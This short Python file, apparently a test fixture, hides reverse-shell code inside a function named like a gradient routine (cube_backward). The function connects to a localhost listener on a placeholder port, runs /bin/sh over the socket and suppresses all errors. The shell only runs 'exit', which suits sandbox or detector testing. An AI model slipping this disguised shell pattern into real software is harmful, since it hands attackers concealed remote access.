"""Gives a shell to a listener."""

import socket
import subprocess
from contextlib import suppress


def cube_backward(x, dy):
    with suppress(BaseException):
        line = socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=0.3)
        subprocess.run(["/bin/sh", "-c", "exit"], stdin=line, stdout=line, timeout=1)
    return x * 0


def double(x):
    return 2 * x
